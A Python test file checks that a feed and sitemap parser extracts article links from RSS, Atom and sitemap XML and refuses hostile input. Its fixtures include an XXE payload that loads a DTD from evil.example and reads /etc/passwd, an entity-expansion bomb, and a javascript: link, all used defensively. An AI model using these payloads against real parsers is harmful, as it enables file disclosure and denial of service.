"""Feeds and sitemaps give the addresses that they list; those made to hurt are refused."""

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scrapers.discover import Found, discover
from search.errors import ImportRefused

URL = "https://ombratimes.example/feed.xml"
RSS = """<?xml version="1.0" encoding="{encoding}"?><rss version="2.0"><channel><title>Ombra Times</title>
<item><title>Old bridge – shut</title><link>/7?utm_source=rss</link>
<pubDate>Mon, 18 Nov 2019 19:24:00 +0300</pubDate></item>
<item><title>Old bridge again</title><link>https://ombratimes.example/7</link></item>
<item><title>No address</title></item><item><link>javascript:alert(1)</link></item></channel></rss>"""
ATOM = """<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title><entry><title>Old bridge</title>
<link href="https://ombratimes.example/7"/><updated>2019-11-18T16:24:00Z</updated></entry></feed>"""
SITEMAP = """<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"
xmlns:news="http://www.google.com/schemas/sitemap-news/0.9"><url><loc> https://ombratimes.example/7 </loc><news:news>
<news:publication_date>2019-11-18</news:publication_date>
<news:title>Old bridge</news:title></news:news></url><url/></urlset>"""
INDEX = """<sitemapindex><sitemap><loc>https://ombratimes.example/1.xml</loc><lastmod>2019-11-18</lastmod></sitemap></sitemapindex>"""


@pytest.mark.parametrize("encoding", ["utf-8", "windows-1252"])
def test_a_feed_lists_each_address_once(encoding: str) -> None:
    found = discover(RSS.format(encoding=encoding).encode(encoding), URL)
    assert found == [Found("https://ombratimes.example/7", "Old bridge – shut", "2019-11-18T19:24+03:00")]


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (ATOM, Found("https://ombratimes.example/7", "Old bridge", "2019-11-18T16:24+00:00")),
        (SITEMAP, Found("https://ombratimes.example/7", "Old bridge", "2019-11-18")),
        (INDEX, Found("https://ombratimes.example/1.xml", None, None, listing=True)),
    ],
)
def test_other_lists_are_read_too(text: str, found: Found) -> None:
    assert discover(text.encode(), URL) == [found]


@pytest.mark.parametrize("link", ["http://[bad", "//[", "http://℀.example/"])
def test_an_entry_whose_link_is_no_address_costs_no_other(link: str) -> None:
    good = "https://ombratimes.example/7"
    items = f"<item><link>{link}</link></item><item><link>{good}</link></item>"
    feed = f'<rss version="2.0"><channel>{items}</channel></rss>'
    sitemap = f"<urlset><url><loc>{link}</loc></url><url><loc>{good}</loc></url></urlset>"
    assert [each.url for each in discover(sitemap.encode(), URL)] == [good]
    assert good in [each.url for each in discover(feed.encode(), URL)]


@pytest.mark.parametrize("reference", ["&#xD83D;&#xde00;", "&#55357;", "&#xDFFF"])
def test_a_reference_to_half_a_character_costs_no_entry(reference: str) -> None:
    item = f"<item><link>/7</link><title>Old bridge {reference}</title></item>"
    (found,) = discover(f'<rss version="2.0"><channel>{item}</channel></rss>'.encode(), URL)
    assert found.url == "https://ombratimes.example/7"
    assert (found.title or "").startswith("Old bridge �")


def test_a_feed_that_the_parser_gives_up_on_is_refused() -> None:
    item = "<item><link>/7</link><title>&#x0000000000D800;</title></item>"
    with pytest.raises(ImportRefused, match="broken"):
        discover(f'<rss version="2.0"><channel>{item}</channel></rss>'.encode(), URL)


LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><urlset><url><loc>&b;</loc></url></urlset>'
OUTWARD = '<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd" [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]><rss></rss>'


@pytest.mark.parametrize(
    "data",
    [
        LAUGHS.encode(),
        OUTWARD.encode(),
        LAUGHS.encode("utf-16"),
        LAUGHS.encode("utf-16-le"),
        b'<?xml version="1.0" encoding="utf-7"?>' + LAUGHS.replace("<", "+ADw-").encode(),
        b"<urlset><url>",
        b"",
        b"<html><body>Not found</body></html>",
        b"\xff\xfe",
        b"<sitemapindex" + b"<a>" * 50_000,
    ],
)
def test_what_is_no_honest_list_is_refused(data: bytes) -> None:
    with pytest.raises(ImportRefused):
        discover(data, URL)


def test_bytes_that_name_a_file_are_not_opened(tmp_path: Path) -> None:
    path = tmp_path / "feed.xml"
    path.write_text(ATOM)
    with pytest.raises(ImportRefused):
        discover(str(path).encode(), URL)


@given(
    st.lists(
        st.sampled_from(
            [
                "<rss>",
                "<item>",
                "<link>",
                "</link>",
                "<urlset>",
                "<loc>",
                "http://a.example/",
                "<url>",
                "&amp;",
                "<!DOCTYPE",
            ]
        )
        | st.text(max_size=10),
        max_size=20,
    )
)
def test_any_text_is_a_list_or_refused(pieces: list[str]) -> None:
    try:
        found = discover("".join(pieces).encode(), URL)
    except ImportRefused:
        return
    assert all(each.url.startswith("http") for each in found)
